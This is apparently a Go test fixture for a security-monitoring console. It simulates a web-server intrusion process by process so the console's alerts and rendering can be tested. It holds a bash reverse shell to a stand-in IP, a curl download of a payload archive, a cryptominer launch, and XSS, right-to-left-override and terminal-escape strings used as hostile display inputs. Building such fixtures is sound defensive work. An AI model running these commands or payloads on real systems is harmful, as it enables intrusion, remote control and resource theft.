package console

import (
	"fmt"
	"strings"
	"time"

	"vigil/decode"
	"vigil/decode/recordtest"
	"vigil/detect"
	"vigil/uplink/server/api"
)

// What hosts can name a thing to harm who looks at it.
const (
	script  = `<script>window.pwned=1</script>`
	image   = `"><img src=x onerror="window.pwned=2">`
	vector  = `<svg onload=window.pwned=3><a href="javascript:window.pwned=4">`
	turning = "invoice\u202egnp.exe\u2066\u200f"
	lines   = "first\nsecond\r\x1b[2Jthird\tfourth"
)

// long is a command line of 4,000 bytes without a place to break it.
func long() string { return "sh -c " + strings.Repeat("A<b>", 1000) }

// process is one of the scene.
type process struct {
	id, up   uint64
	pid      uint32
	user     string
	uid      uint32
	path     string
	args     []string
	start    time.Time
	ended    time.Duration // after start; 0: it runs
	exitCode string
}

func (p *process) name() string { return p.path[strings.LastIndexByte(p.path, '/')+1:] }

func (p *process) exec() string { return fmt.Sprintf("%016x", p.id) }

func (p *process) command() string { return strings.Join(p.args, " ") }

// play is a break-in over a web server, process by process.
type play struct {
	all   []*process
	shell *process // the one that the alert is about
	miner *process
}

// scene plays at a time.
func scene(at time.Time) *play {
	p := &play{}
	add := func(up *process, pid, uid uint32, user, path string, after, ended time.Duration, exit string, args ...string) *process {
		n := &process{id: 0x5eed000000000000 + uint64(pid), pid: pid, uid: uid, user: user, path: path, args: args, start: at.Add(after), ended: ended, exitCode: exit}
		if up != nil {
			n.up = up.id
		}
		p.all = append(p.all, n)
		return n
	}
	init := add(nil, 1, 0, "root", "/usr/lib/systemd/systemd", -72*time.Hour, 0, "", "/sbin/init")
	web := add(init, 812, 0, "root", "/usr/sbin/apache2", -70*time.Hour, 0, "", "/usr/sbin/apache2", "-k", "start")
	worker := add(web, 24816, 33, "www-data", "/usr/sbin/apache2", -3*time.Hour, 0, "", "/usr/sbin/apache2", "-k", "start")
	sh := add(worker, 31207, 33, "www-data", "/usr/bin/dash", -400*time.Millisecond, 0, "", "sh", "-c", "php uploads/shell.php")
	php := add(sh, 31208, 33, "www-data", "/usr/bin/php8.2", -300*time.Millisecond, 0, "", "php", "uploads/shell.php")
	p.shell = add(php, 31211, 33, "www-data", "/usr/bin/bash", 0, 0, "", "bash", "-c", "exec bash -i &>/dev/tcp/203.0.113.66/4444 <&1")
	add(p.shell, 31215, 33, "www-data", "/usr/bin/id", 2*time.Second, 3*time.Millisecond, "0", "id")
	add(p.shell, 31216, 33, "www-data", "/usr/bin/uname", 4*time.Second, 2*time.Millisecond, "0", "uname", "-a")
	add(p.shell, 31218, 33, "www-data", "/usr/bin/sudo", 7*time.Second, 40*time.Millisecond, "1", "sudo", "-n", "-l")
	add(p.shell, 31220, 33, "www-data", "/usr/bin/find", 9*time.Second, time.Second, "0", "find", "/", "-perm", "-4000", "-type", "f")
	curl := add(p.shell, 31224, 33, "www-data", "/usr/bin/curl", 15*time.Second, 2*time.Second, "0", "curl", "-fsSL", "http://203.0.113.66/k.tgz", "-o", "/dev/shm/.k/k.tgz")
	_ = curl
	add(p.shell, 31226, 33, "www-data", "/usr/bin/tar", 18*time.Second, 30*time.Millisecond, "0", "tar", "xzf", "/dev/shm/.k/k.tgz", "-C", "/dev/shm/.k")
	p.miner = add(p.shell, 31230, 33, "www-data", "/dev/shm/.k/kworkerd", 20*time.Second, 0, "", "./kworkerd", "--url", "stratum+tcp://pool.example.net:3333", "--donate-level", "0")
	add(p.shell, 31241, 33, "www-data", "/tmp/"+image, 24*time.Second, 2*time.Millisecond, "0", image, script, vector)
	add(p.shell, 31242, 33, "www-data", "/tmp/"+turning, 25*time.Second, 2*time.Millisecond, "137", turning, lines)
	add(p.shell, 31243, 33, "www-data", "/usr/bin/dash", 26*time.Second, 0, "", strings.Split(long(), " ")...)
	return p
}

// tree is the scene as the store gives it.
func (p *play) tree() []api.Process {
	var out []api.Process
	depth := map[uint64]int{}
	for i, n := range p.all {
		depth[n.id] = depth[n.up] + 1
		if i == 0 {
			depth[n.id] = -5
		}
		x := api.Process{ExecID: n.exec(), Depth: depth[n.id], Kind: "exec", Time: n.start, ExitCode: n.exitCode, PID: uint64(n.pid), Name: n.name(), Path: n.path, Command: n.command(), User: n.user}
		if n.up != 0 {
			x.Parent = fmt.Sprintf("%016x", n.up)
		}
		if n.ended > 0 {
			x.Ended = n.start.Add(n.ended)
		}
		out = append(out, x)
	}
	return out
}

// tangle is what a sensor could send to harm who draws it: rings, a chain of 500, and a
// family of 400.
func tangle(at time.Time) []api.Process {
	var out []api.Process
	add := func(id, parent, previous string) {
		out = append(out, api.Process{ExecID: id, Parent: parent, Previous: previous, Kind: "fork", Time: at.Add(time.Duration(len(out)) * time.Millisecond), Name: script, Command: image, PID: uint64(len(out))})
	}
	add("a000000000000000", "a000000000000001", "a000000000000000")
	add("a000000000000001", "a000000000000000", "")
	for i := range 500 {
		add(fmt.Sprintf("b%015x", i), fmt.Sprintf("b%015x", i-1), "")
	}
	for i := range 400 {
		add(fmt.Sprintf("c%015x", i), "b000000000000000", "")
	}
	return append(out, out[5]) // and one twice
}

func (p *play) find(id uint64) *process {
	for _, n := range p.all {
		if n.id == id {
			return n
		}
	}
	return nil
}

// boot is when the hosts began.
func boot(at time.Time) time.Time { return at.Add(-100 * time.Hour) }

// event is a record that a process of the scene caused, as OCSF.
func (p *play) event(sensor, host string, n *process, at time.Time, kind decode.Kind, fixed any, texts ...string) api.Event {
	began := boot(p.shell.start)
	actor := func(n *process) *decode.Actor {
		if n == nil {
			return nil
		}
		return &decode.Actor{Path: []byte(n.path), Comm: []byte(n.name()), Arguments: []byte(strings.Join(n.args, "\x00") + "\x00"), User: n.user, PID: n.pid, ExecID: n.id, Start: uint64(n.start.Sub(began)), BootOffset: began.UnixNano(), Hostname: host}
	}
	a := actor(n)
	a.Parent = actor(p.find(n.up))
	h := decode.Header{Time: uint64(at.Sub(began)), ExecID: n.id, ParentExecID: n.up, PID: n.pid, TID: n.pid, UID: n.uid, Count: 1}
	return api.Event{Time: at, Sensor: sensor, Kind: kind.String(), Event: decode.AppendJSON(nil, recordtest.DecodedWith(h, kind, fixed, recordtest.Texts(texts...)...), a)}
}

// events are what the scene's processes did.
func (p *play) events(sensor, host string) []api.Event {
	var out []api.Event
	for _, n := range p.all {
		var ppid uint32
		if up := p.find(n.up); up != nil {
			ppid = up.pid
		}
		out = append(out, p.event(sensor, host, n, n.start, decode.KindExec, decode.Exec{PPID: ppid, Mode: 0o100755, Argc: uint32(len(n.args))}, n.path, strings.Join(n.args, "\x00")+"\x00", "/var/www/html", n.path, "", "", n.name()))
		if n.ended > 0 {
			out = append(out, p.event(sensor, host, n, n.start.Add(n.ended), decode.KindExit, decode.Exit{}))
		}
	}
	s := p.shell
	out = append(out,
		p.event(sensor, host, s, s.start.Add(12*time.Millisecond), decode.KindConnect, decode.Socket{Ends: recordtest.Ends("10.20.0.5:51544", "203.0.113.66:4444"), LatencyNS: 21e6}),
		p.event(sensor, host, s, s.start.Add(5*time.Second), decode.KindFileRead, decode.FileOpen{}, "/etc/passwd"),
		p.event(sensor, host, s, s.start.Add(14*time.Second), decode.KindFileOpen, decode.FileOpen{Created: 1, OpenFlags: 0o1101}, "/dev/shm/.k/"+image),
		p.event(sensor, host, s, s.start.Add(27*time.Second), decode.KindFileRename, decode.FilePair{}, "/tmp/"+script, "/tmp/"+turning),
		p.event(sensor, host, p.miner, p.miner.start.Add(30*time.Millisecond), decode.KindConnect, decode.Socket{Ends: recordtest.Ends("10.20.0.5:51600", "198.51.100.9:3333"), LatencyNS: 21e6}))
	return out
}

// proof is an event as an alert has it.
func proof(e api.Event) detect.Evidence { return detect.Evidence{Event: e.Event} }
